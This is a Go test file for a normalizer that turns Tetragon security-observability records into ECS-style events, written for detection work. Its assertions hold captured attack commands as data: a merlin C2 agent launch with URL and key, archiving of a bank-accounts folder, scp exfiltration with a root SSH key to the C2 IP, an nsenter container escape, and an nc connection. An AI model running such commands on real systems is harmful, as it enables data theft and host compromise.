package normalize

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// Every record of the captures is of a mapped type and comes out as an
// event, in the tetragon and in the auto format, and the same each time.
func TestTetragonCapturesAllNormalize(t *testing.T) {
	lines := tetragonLines(t)
	require.Equal(t, 43, len(lines), "40 report captures and 3 lines of events.json (and no file lost)")
	for _, format := range []string{FormatTetragon, FormatAuto} {
		n := newNormalizer(t, format)
		for _, name := range sortedKeys(lines) {
			out, o, err := n.Record(lines[name])
			require.NoError(t, err, name)
			require.Equal(t, Event, o, "%s: %s", format, name)
			require.True(t, json.Valid(out), name)
			first := string(out)
			again, _, _ := n.Record(lines[name])
			assert.Equal(t, first, string(again), "the same line gives the same document")
			d := decode(t, out)
			assert.Equal(t, "tetragon", d.str("event.module"), name)
			assert.Equal(t, "event", d.str("event.kind"), name)
			assert.NotEmpty(t, d.str("host.name"), name)
			assert.NotEmpty(t, d.str("process.executable"), name)
			assert.NotEmpty(t, d.str("process.entity_id"), name)
			assert.NotEmpty(t, d.str("process.parent.entity_id"), name)
			assert.NotEmpty(t, d.str("user.id"), name)
			assert.Nil(t, d.get("process.hash"), "no capture has IMA hashes: %s", name)
		}
		counts := countsOf(n)
		for k := range counts {
			assert.Contains(t, k, "/normalized", "no unknown or refused record: %s", k)
		}
		assert.Equal(t, map[string]int64{
			"tetragon/process_exec/normalized":    2 * 21,
			"tetragon/process_exit/normalized":    2 * 9,
			"tetragon/process_connect/normalized": 2 * 5,
			"tetragon/process_close/normalized":   2 * 4,
			"tetragon/process_listen/normalized":  2 * 2,
			"tetragon/process_kprobe/normalized":  2 * 2,
		}, counts)
	}
}

// The merlin agent chain of the report: a Go binary built in /tmp under
// `go run`, its C2 connections, then 7z and the scp/ssh exfiltration.
func TestTetragonMerlinChain(t *testing.T) {
	n := newNormalizer(t, FormatTetragon)
	const (
		agent    = "/tmp/go-build3518135900/b001/exe/main"
		agentID  = "bWluaWt1YmU6MjA4MjU3MzM4MjgwMToyNTc0NA=="
		goRunID  = "bWluaWt1YmU6MjA4MTc1MTUxNjg4NDoyNTY4Nw=="
		scpID    = "bWluaWt1YmU6NDczMzc5NjIyNTA5MDo1Mzc2Nw=="
		c2       = "34.116.205.187"
		evidence = "03_security_observability_events/"
	)

	start := event(t, n, tetragonFile(t, evidence+"02_persistance/merlin-agent-go-start.json"))
	assert.Equal(t, "2022-01-19T11:27:16.516Z", start.str("@timestamp"))
	assert.Equal(t, []string{"process"}, start.strs("event.category"))
	assert.Equal(t, []string{"start"}, start.strs("event.type"))
	assert.Equal(t, "exec", start.str("event.action"))
	assert.Equal(t, "tetragon.process", start.str("event.dataset"))
	assert.Equal(t, "minikube", start.str("host.name"))
	assert.Equal(t, agent, start.str("process.executable"))
	assert.Equal(t, "main", start.str("process.name"))
	assert.Equal(t, float64(25744), start.num("process.pid"))
	assert.Equal(t, agentID, start.str("process.entity_id"))
	assert.Equal(t, []string{agent, "-v", "-url", "https://main.linux-libs.org:443", "-proto", "h2", "-psk", "SecurePSK!23@456"},
		start.strs("process.args"))
	assert.Equal(t, float64(8), start.num("process.args_count"))
	assert.Equal(t, agent+" -v -url https://main.linux-libs.org:443 -proto h2 -psk SecurePSK!23@456", start.str("process.command_line"))
	assert.Equal(t, "/opt/merlin-agent", start.str("process.working_directory"), "trailing slash dropped")
	assert.Equal(t, "/usr/local/go/bin/go", start.str("process.parent.executable"))
	assert.Equal(t, float64(25687), start.num("process.parent.pid"))
	assert.Equal(t, goRunID, start.str("process.parent.entity_id"))
	assert.Equal(t, "run", start.strs("process.parent.args")[1])
	assert.Equal(t, "0", start.str("user.id"))
	assert.Equal(t, "a51959123c3ba99a9f50a700", start.str("container.id"), "only the docker prefix without pod data")
	assert.Nil(t, start.get("orchestrator"))

	for _, f := range []string{"02_persistance/merlin-agent-go-connect.json", "02_persistance/merlin-agent-job-connect.json"} {
		c := event(t, n, tetragonFile(t, evidence+f))
		assert.Equal(t, []string{"network"}, c.strs("event.category"), f)
		assert.Equal(t, []string{"connection", "start"}, c.strs("event.type"), f)
		assert.Equal(t, "connection-opened", c.str("event.action"), f)
		assert.Equal(t, "tcp", c.str("network.transport"), f)
		assert.Equal(t, "ipv4", c.str("network.type"), f)
		assert.Equal(t, "egress", c.str("network.direction"), f)
		assert.Equal(t, "10.88.0.3", c.str("source.ip"), f)
		assert.Equal(t, c2, c.str("destination.ip"), f)
		assert.Equal(t, float64(443), c.num("destination.port"), f)
		assert.Equal(t, agent, c.str("process.executable"), f)
		assert.Equal(t, agentID, c.str("process.entity_id"), "the connection links to the exec: %s", f)
		assert.Equal(t, goRunID, c.str("process.parent.entity_id"), f)
	}
	first := event(t, n, tetragonFile(t, evidence+"02_persistance/merlin-agent-go-connect.json"))
	assert.Equal(t, float64(43374), first.num("source.port"))

	closed := event(t, n, tetragonFile(t, evidence+"02_persistance/merlin-agent-job-close.json"))
	assert.Equal(t, []string{"end"}, closed.strs("event.type"), "a close is not a second connection")
	assert.Equal(t, "connection-closed", closed.str("event.action"))
	assert.Equal(t, float64(4364), closed.num("source.bytes"))
	assert.Equal(t, float64(8874), closed.num("destination.bytes"))

	sh := event(t, n, tetragonFile(t, evidence+"03_post_exploitation_techniques/merlin-agent-sh.json"))
	assert.Equal(t, []string{"/bin/sh", "-c", "7z a s3nsitiv3.7z ../ops_bank_accounts/"}, sh.strs("process.args"),
		"Tetragon's quoted argument comes back whole")
	assert.Equal(t, "/bin/sh -c 7z a s3nsitiv3.7z ../ops_bank_accounts/", sh.str("process.command_line"))
	assert.Equal(t, "/tmp/go-build3514866200/b001/exe/main", sh.str("process.parent.executable"))

	sevenZ := event(t, n, tetragonFile(t, evidence+"03_post_exploitation_techniques/merlin-agent-7z.json"))
	assert.Equal(t, "/usr/bin/7z", sevenZ.str("process.executable"))
	assert.Equal(t, "/bin/sh", sevenZ.str("process.parent.executable"))
	assert.Equal(t, []string{"/bin/sh", "-c", "7z a s3nsitiv3.7z ../ops_bank_accounts/"}, sevenZ.strs("process.parent.args"))
	sevenZExit := event(t, n, tetragonFile(t, evidence+"03_post_exploitation_techniques/merlin-agent-7z-exit.json"))
	assert.Equal(t, []string{"end"}, sevenZExit.strs("event.type"))
	assert.Equal(t, "end", sevenZExit.str("event.action"))
	assert.Equal(t, float64(0), sevenZExit.num("process.exit_code"), "protojson leaves out a zero status")
	assert.Equal(t, "2022-01-19T12:05:31.481Z", sevenZExit.str("process.end"))

	scp := event(t, n, tetragonFile(t, evidence+"03_post_exploitation_techniques/merlin-agent-scp.json"))
	assert.Equal(t, "/usr/bin/scp", scp.str("process.executable"))
	assert.Equal(t, scpID, scp.str("process.entity_id"))
	assert.Equal(t, []string{"/usr/bin/scp", "-i", "/root/.ssh/id_rsa", "s3nsitiv3.7z", "natalia@" + c2 + ":~"}, scp.strs("process.args"))
	assert.Equal(t, "80976c957594cea6d9f58d12", scp.str("container.id"))

	ssh := event(t, n, tetragonFile(t, evidence+"03_post_exploitation_techniques/merlin-agent-scp-ssh.json"))
	args := ssh.strs("process.args")
	assert.Equal(t, "/usr/bin/ssh", args[0])
	assert.Equal(t, []string{"-l", "natalia", "--", c2, "scp -t ~"}, args[len(args)-5:])
	assert.Equal(t, "/usr/bin/scp", ssh.str("process.parent.executable"))
	assert.Equal(t, float64(53767), ssh.num("process.parent.pid"))
	// The capture's parent_exec_id differs from its parent's exec_id by
	// one character (an edit in the report's data): the process's own
	// parent_exec_id is what process.parent.entity_id is taken from.
	assert.Equal(t, "bWluaWt1YmU6NDczMzc5NjIyNTA5MDo1Mzc2Nwf==", ssh.str("process.parent.entity_id"))

	tunnel := event(t, n, tetragonFile(t, evidence+"03_post_exploitation_techniques/merlin-agent-ssh-tunnel-connect.json"))
	assert.Equal(t, c2, tunnel.str("destination.ip"))
	assert.Equal(t, float64(22), tunnel.num("destination.port"))
	assert.Equal(t, "/usr/bin/ssh", tunnel.str("process.executable"))
	assert.Equal(t, ssh.str("process.entity_id"), tunnel.str("process.entity_id"))
	assert.Equal(t, "/usr/bin/scp", tunnel.str("process.parent.executable"))
	assert.Equal(t, scpID, tunnel.str("process.parent.entity_id"), "this record has no parent_exec_id of its own")
}

// The privileged pod's escape: bash in the pod runs nsenter into pid 1's
// namespaces, which starts a host bash.
func TestTetragonHostNamespaceChain(t *testing.T) {
	n := newNormalizer(t, FormatAuto)
	const dir = "03_security_observability_events/01_reaching_the_host_namespace/"
	podBash := event(t, n, tetragonFile(t, dir+"privileged-pod-bash.json"))
	nsenter := event(t, n, tetragonFile(t, dir+"privileged-pod-nsenter.json"))
	hostBash := event(t, n, tetragonFile(t, dir+"host-namespace-bash.json"))

	assert.Equal(t, "/usr/bin/nsenter", nsenter.str("process.executable"))
	assert.Equal(t, []string{"/usr/bin/nsenter", "-t", "1", "-m", "-u", "-n", "-i", "-p", "bash"}, nsenter.strs("process.args"))
	assert.Equal(t, "/bin/bash", nsenter.str("process.parent.executable"))
	assert.Equal(t, podBash.str("process.entity_id"), nsenter.str("process.parent.entity_id"))
	assert.Equal(t, "/usr/bin/bash", hostBash.str("process.executable"))
	assert.Equal(t, []string{"/usr/bin/bash"}, hostBash.strs("process.args"), "no arguments: args is the binary alone")
	assert.Equal(t, nsenter.str("process.entity_id"), hostBash.str("process.parent.entity_id"))
	assert.Equal(t, "/usr/bin/nsenter", hostBash.str("process.parent.executable"))
	for _, d := range []doc{nsenter, hostBash} {
		assert.Equal(t, "kubernetes", d.str("orchestrator.type"))
		assert.Equal(t, "default", d.str("orchestrator.namespace"))
		assert.Equal(t, "pod", d.str("orchestrator.resource.type"))
		assert.Equal(t, "privileged-pod", d.str("orchestrator.resource.name"))
		assert.Equal(t, "docker", d.str("container.runtime"))
		assert.Len(t, d.str("container.id"), 64, "the full id from the pod, scheme dropped")
	}
}

// The nc lifecycle: exec, connect, close and exit share the entity id; the
// keystore read and the /etc/passwd write are file events.
func TestTetragonLifecycleAndFileKprobes(t *testing.T) {
	n := newNormalizer(t, FormatTetragon)
	exec := event(t, n, tetragonFile(t, "00_process_lifecycle/nc_process_exec.json"))
	conn := event(t, n, tetragonFile(t, "00_process_lifecycle/nc_process_connect.json"))
	closed := event(t, n, tetragonFile(t, "00_process_lifecycle/nc_process_close.json"))
	exit := event(t, n, tetragonFile(t, "00_process_lifecycle/nc_process_exit.json"))
	id := exec.str("process.entity_id")
	for _, d := range []doc{conn, closed, exit} {
		assert.Equal(t, id, d.str("process.entity_id"))
		assert.Equal(t, "/usr/bin/nc", d.str("process.executable"))
		assert.Equal(t, "/usr/bin/sh", d.str("process.parent.executable"))
	}
	assert.Equal(t, []string{"/usr/bin/nc", "raiz3gjkgtfhkkc.not-reverse-shell.com", "443"}, exec.strs("process.args"))
	assert.Equal(t, "64.225.45.153", conn.str("destination.ip"))
	assert.Equal(t, float64(443), conn.num("destination.port"))
	assert.Equal(t, "elasticsearch-56f8fc6988-65smb", exec.str("orchestrator.resource.name"))
	assert.Equal(t, "tenant-jobs", exec.str("orchestrator.namespace"))
	assert.Equal(t, "elasticsearch", exec.str("container.name"))
	assert.Equal(t, "quay.io/isovalent/jobs-app-elasticsearch:latest", exec.str("container.image.name"))
	assert.Equal(t, []string{"sha256:ff3aa5862fd17f8695984609743f4523188984adbcd25cf5ac4224b71084558c"}, exec.strs("container.image.hash.all"))
	assert.Equal(t, "2022-02-01T18:01:57.725Z", exit.str("process.end"))

	write := event(t, n, tetragonFile(t, "00_four_golden_signals/process_kprobe.json"))
	assert.Equal(t, []string{"file"}, write.strs("event.category"))
	assert.Equal(t, []string{"change"}, write.strs("event.type"))
	assert.Equal(t, "__x64_sys_write", write.str("event.action"))
	assert.Equal(t, "/etc/passwd", write.str("file.path"), "the leading slash old versions dropped is back")
	assert.Equal(t, "passwd", write.str("file.name"))
	assert.Equal(t, "/usr/bin/vi", write.str("process.executable"))
	assert.Equal(t, "gke-kprobe-validation-default-pool-b5e9dab6-k0cj", write.str("host.name"))

	read := event(t, n, tetragonFile(t, "00_process_lifecycle/cat_process_kprobe.json"))
	assert.Equal(t, []string{"access"}, read.strs("event.type"))
	assert.Equal(t, "/usr/share/elasticsearch/config/elasticsearch.keystore", read.str("file.path"))
	assert.Equal(t, "/usr/bin/cat", read.str("process.executable"))

	listen := event(t, n, tetragonFile(t, "00_four_golden_signals/process_listen.json"))
	assert.Equal(t, []string{"info"}, listen.strs("event.type"), "a listening socket is no connection")
	assert.Equal(t, float64(9080), listen.num("source.port"))
	assert.Nil(t, listen.get("process.args"), "network events carry the process's identity, not its arguments")

	// events.json: pods with labels and nanosecond times.
	lines := fileLines(t, tetragonDir+"/events.json")
	d := event(t, n, lines[0])
	assert.Equal(t, "2022-10-18T03:16:18.273546829Z", d.str("@timestamp"), "this record has no time: the process's start")
	assert.Equal(t, "/usr/bin/netserver", d.str("process.executable"))
	assert.Equal(t, "2022-10-18T03:16:18.273546829Z", d.str("process.start"))
	assert.Equal(t, "my-node", d.str("host.name"))
	assert.Equal(t, "containerd", d.str("container.runtime"))
	assert.Equal(t, "19a02291e106ce6227b684197be232ea57c4e1a5ab2604a12608c325d701c7f4", d.str("container.id"))
	assert.ElementsMatch(t, []string{"app.kubernetes.io/name=tiefighter", "class=tiefighter", "org=empire"}, d.strs("orchestrator.resource.label"))
	assert.Equal(t, "/usr/bin/containerd-shim-runc-v2", d.str("process.parent.executable"))
}

// Records of current Tetragon versions the captures lack, written after the
// documented schema (api/v1/tetragon/tetragon.proto, the tracing-policy
// docs): kprobes on tcp_connect and udp_sendmsg with sock_arg,
// security_file_permission, an LSM bprm_check_security with an IMA hash,
// process credentials and user names, an exit by signal.
func TestTetragonCurrentSchema(t *testing.T) {
	n := newNormalizer(t, FormatAuto)
	proc := `"process":{"exec_id":"bm9kZToxMjM6NDI=","pid":42,"uid":1000,"cwd":"/home/ana","binary":"/usr/bin/curl","arguments":"-s http://example.org","flags":"execve clone","start_time":"2024-05-01T10:00:00.123456789Z","auid":1000,"parent_exec_id":"bm9kZToxMDA6NDE=","user":{"name":"ana"},"process_credentials":{"uid":1000,"gid":1000,"euid":0,"egid":1000}},"parent":{"exec_id":"bm9kZToxMDA6NDE=","pid":41,"binary":"/bin/bash"}`

	connect := event(t, n, []byte(`{"process_kprobe":{`+proc+`,"function_name":"tcp_connect","args":[{"sock_arg":{"family":"AF_INET","type":"SOCK_STREAM","protocol":"IPPROTO_TCP","saddr":"10.0.0.5","daddr":"93.184.216.34","sport":40000,"dport":443,"cookie":"18446623375406437376","state":"TCP_SYN_SENT"}}],"action":"KPROBE_ACTION_POST","policy_name":"connect","tags":["observability.network"]},"node_name":"worker-1","time":"2024-05-01T10:00:01Z"}`))
	assert.Equal(t, []string{"network"}, connect.strs("event.category"))
	assert.Equal(t, []string{"connection", "start"}, connect.strs("event.type"))
	assert.Equal(t, "tcp_connect", connect.str("event.action"))
	assert.Equal(t, "tcp", connect.str("network.transport"))
	assert.Equal(t, "egress", connect.str("network.direction"))
	assert.Equal(t, "10.0.0.5", connect.str("source.ip"))
	assert.Equal(t, float64(40000), connect.num("source.port"))
	assert.Equal(t, "93.184.216.34", connect.str("destination.ip"))
	assert.Equal(t, float64(443), connect.num("destination.port"))
	assert.Equal(t, "1000", connect.str("user.id"), "the real uid from the credentials")
	assert.Equal(t, "0", connect.str("user.effective.id"))
	assert.Equal(t, "ana", connect.str("user.name"))
	assert.Equal(t, "1000", connect.str("user.audit.id"))
	assert.Equal(t, []string{"observability.network"}, connect.strs("tags"))
	assert.Equal(t, "bm9kZToxMjM6NDI=", connect.str("process.entity_id"))
	assert.Equal(t, "bm9kZToxMDA6NDE=", connect.str("process.parent.entity_id"))

	udp := event(t, n, []byte(`{"process_kprobe":{`+proc+`,"function_name":"udp_sendmsg","args":[{"sock_arg":{"family":"AF_INET6","protocol":"IPPROTO_UDP","saddr":"::","daddr":"2001:db8::53","sport":53000,"dport":53}}]},"node_name":"worker-1","time":"2024-05-01T10:00:02Z"}`))
	assert.Equal(t, "udp", udp.str("network.transport"))
	assert.Equal(t, "ipv6", udp.str("network.type"))
	assert.Equal(t, "2001:db8::53", udp.str("destination.ip"))
	assert.Nil(t, udp.get("source.ip"), "an unspecified source address is left out")
	assert.Equal(t, float64(53000), udp.num("source.port"))

	perm := event(t, n, []byte(`{"process_kprobe":{`+proc+`,"function_name":"security_file_permission","args":[{"file_arg":{"path":"/etc/shadow","permission":"-rw-r-----"}},{"int_arg":2}],"action":"KPROBE_ACTION_POST"},"node_name":"worker-1","time":"2024-05-01T10:00:03Z"}`))
	assert.Equal(t, []string{"file"}, perm.strs("event.category"))
	assert.Equal(t, []string{"change"}, perm.strs("event.type"), "MAY_WRITE")
	assert.Equal(t, "/etc/shadow", perm.str("file.path"))

	lsm := event(t, n, []byte(`{"process_lsm":{`+proc+`,"function_name":"bprm_check_security","policy_name":"file-integrity-monitoring","args":[{"linux_binprm_arg":{"path":"/usr/bin/grep","permission":"-rwxr-xr-x"}}],"action":"KPROBE_ACTION_POST","ima_hash":"sha256:73abb4280520053564fd4917286909ba3b054598b32c9cdfaf1d733e0202cc96"},"node_name":"worker-1","time":"2024-05-01T10:00:04Z"}`))
	assert.Equal(t, []string{"process"}, lsm.strs("event.category"))
	assert.Equal(t, []string{"access"}, lsm.strs("event.type"), "not a start: the process_exec is")
	assert.Equal(t, "/usr/bin/grep", lsm.str("process.executable"))
	assert.Equal(t, "73abb4280520053564fd4917286909ba3b054598b32c9cdfaf1d733e0202cc96", lsm.str("process.hash.sha256"))
	assert.Nil(t, lsm.get("process.entity_id"), "the exec's id is not known yet")

	open := event(t, n, []byte(`{"process_lsm":{`+proc+`,"function_name":"file_open","args":[{"file_arg":{"path":"/etc/ld.so.preload"}}],"ima_hash":"sha256:0000000000000000000000000000000000000000000000000000000000000001"},"node_name":"worker-1","time":"2024-05-01T10:00:05Z"}`))
	assert.Equal(t, []string{"file"}, open.strs("event.category"))
	assert.Equal(t, "0000000000000000000000000000000000000000000000000000000000000001", open.str("file.hash.sha256"))
	assert.Nil(t, open.get("process.hash"), "the hash is the file's, not the process's")

	exit := event(t, n, []byte(`{"process_exit":{`+proc+`,"signal":"SIGKILL","time":"2024-05-01T10:00:06Z"},"node_name":"worker-1","time":"2024-05-01T10:00:06.5Z"}`))
	assert.Equal(t, float64(137), exit.num("process.exit_code"))
	assert.Equal(t, float64(9), exit.num("cairn.process.exit_signal"))
	assert.Equal(t, "2024-05-01T10:00:06.000Z", exit.str("process.end"))
	assert.Equal(t, "2024-05-01T10:00:06.500Z", exit.str("@timestamp"))

	status := event(t, n, []byte(`{"process_exit":{`+proc+`,"status":2},"node_name":"worker-1","time":"2024-05-01T10:00:07Z"}`))
	assert.Equal(t, float64(2), status.num("process.exit_code"))
	assert.Nil(t, status.get("cairn"))

	inventory := event(t, n, []byte(`{"process_exec":{"process":{"exec_id":"eA==","pid":1,"uid":0,"binary":"/sbin/init","flags":"procFS auid rootcwd"}},"node_name":"worker-1","time":"2024-05-01T09:00:00Z"}`))
	assert.Equal(t, []string{"info"}, inventory.strs("event.type"))
	assert.Equal(t, "existing_process", inventory.str("event.action"))

	trunc := event(t, n, []byte(`{"process_exec":{"process":{"exec_id":"eA==","pid":7,"binary":"/bin/x","arguments":"a b","flags":"execve truncArgs"}},"node_name":"w","time":"2024-05-01T09:00:00Z"}`))
	assert.Equal(t, true, trunc.get("cairn.process.args_truncated"))
}

// Types with no mapping pass through as they are, counted by type.
func TestTetragonUnknownTypesPassThroughCounted(t *testing.T) {
	n := newNormalizer(t, FormatAuto)
	tp := []byte(`{"process_tracepoint":{"process":{"exec_id":"eA==","pid":7,"binary":"/bin/x"},"subsys":"syscalls","event":"sys_enter_mount"},"node_name":"w","time":"2024-05-01T09:00:00Z"}`)
	out, o, err := n.Record(tp)
	require.NoError(t, err)
	assert.Equal(t, Passthrough, o)
	assert.Equal(t, string(tp), string(out), "untouched")

	creds := []byte(`{"process_kprobe":{"process":{"exec_id":"eA==","pid":7,"binary":"/bin/x"},"function_name":"commit_creds","args":[{"process_credentials_arg":{"uid":0}}]},"node_name":"w","time":"2024-05-01T09:00:00Z"}`)
	out, o, err = n.Record(creds)
	require.NoError(t, err)
	assert.Equal(t, Passthrough, o)
	assert.Equal(t, string(creds), string(out))

	fresh := []byte(`{"process_future":{"x":1},"node_name":"w"}`)
	_, o, _ = n.Record(fresh)
	assert.Equal(t, Passthrough, o)

	assert.Equal(t, map[string]int64{
		"tetragon/process_tracepoint/unknown":          1,
		"tetragon/process_kprobe/commit_creds/unknown": 1,
		"tetragon/process_future/unknown":              1,
	}, countsOf(n))
}

func TestSplitArgs(t *testing.T) {
	for _, c := range []struct {
		in   string
		want []string
	}{
		{"", nil},
		{"-D", []string{"-D"}},
		{"--port 80 --host 0.0.0.0", []string{"--port", "80", "--host", "0.0.0.0"}},
		{`-c "PORT=9080 python app.py"`, []string{"-c", "PORT=9080 python app.py"}},
		{` "a b" c`, []string{"a b", "c"}},                      // a leading quoted argument gets a space
		{`a  b`, []string{"a", "", "b"}},                        // an empty argument
		{`a `, []string{"a", ""}},                               // a trailing empty argument
		{`"foo"`, []string{`"foo"`}},                            // quotes without a space are the argument's
		{`""foo bar""`, []string{`"foo bar"`}},                  // an argument with quotes and a space
		{`-c "x" y"`, []string{"-c", `x" y`}},                   // quote-space inside, but no space before it
		{`"unterminated arg`, []string{`"unterminated`, "arg"}}, // no closing quote: plain tokens
		{"a\tb", []string{"a\tb"}},                              // tabs stay inside arguments
	} {
		var got []string
		splitArgs([]byte(c.in), func(a []byte) bool {
			got = append(got, string(a))
			return true
		})
		assert.Equal(t, c.want, got, "%q", c.in)
	}
	// Arguments beyond maxArgs are cut and flagged.
	n := newNormalizer(t, FormatTetragon)
	many := strings.Repeat("x ", 3000)
	d := event(t, n, []byte(`{"process_exec":{"process":{"exec_id":"eA==","pid":7,"binary":"/bin/x","arguments":"`+many+`"}},"node_name":"w"}`))
	assert.Len(t, d.strs("process.args"), maxArgs)
	assert.Equal(t, true, d.get("cairn.process.args_truncated"))
}

func TestLastAt(t *testing.T) {
	for _, s := range []string{"", "@", "a", "a@b", "@@", "x@y@z", "docker-pullable://quay.io/a@sha256:ff", "no at sign here at all, but long enough to take more than one vector of the search"} {
		assert.Equal(t, bytes.LastIndexByte([]byte(s), '@'), lastAt([]byte(s)), s)
	}
}

// Arguments with nothing escaped take a shorter path (split at spaces,
// command line copied): the same arguments, count and command line as
// splitArgs gives, up to exactly maxArgs.
func TestCleanArgsPath(t *testing.T) {
	n := newNormalizer(t, FormatTetragon)
	for _, in := range []string{"", "-D", "--port 80 --host 0.0.0.0", "a  b", "a ", " a", strings.Repeat("x ", maxArgs-2) + "x", strings.Repeat("x ", maxArgs-1) + "x"} {
		want := []string{"/bin/x"}
		splitArgs([]byte(in), func(a []byte) bool {
			want = append(want, string(a))
			return true
		})
		d := event(t, n, []byte(`{"process_exec":{"process":{"exec_id":"eA==","pid":7,"binary":"/bin/x","arguments":"`+in+`"}},"node_name":"w"}`))
		if len(want) > maxArgs {
			want = want[:maxArgs]
			assert.Equal(t, true, d.get("cairn.process.args_truncated"), "%q", in)
		} else {
			assert.Nil(t, d.get("cairn.process.args_truncated"), "%q", in)
			assert.Equal(t, strings.Join(want, " "), d.get("process.command_line"), "%q", in)
		}
		assert.Equal(t, want, d.strs("process.args"), "%q", in)
		assert.EqualValues(t, len(want), d.get("process.args_count"), "%q", in)
	}
}

func TestHasWord(t *testing.T) {
	for _, s := range []string{"", " ", "execve clone", "execve rootcwd clone", "procFS", "procFSx", "xprocFS", "a  procFS", "procFS ", " truncArgs", "truncArg", "execve truncArgs clone"} {
		for _, word := range []string{"procFS", "truncArgs", "clone", "execve"} {
			want := false
			for _, w := range strings.Split(s, " ") {
				want = want || w == word
			}
			assert.Equal(t, want, hasWord([]byte(s), word), "%q in %q", word, s)
		}
	}
}

func TestSchemeEnd(t *testing.T) {
	for _, s := range []string{"", ":", "://", "a://b", "docker://e6af", "containerd://24", "a:b://c", "a:/b", "a:b:c", "no scheme", "x:y:/z://w"} {
		assert.Equal(t, bytes.Index([]byte(s), []byte("://")), schemeEnd([]byte(s)), s)
	}
}
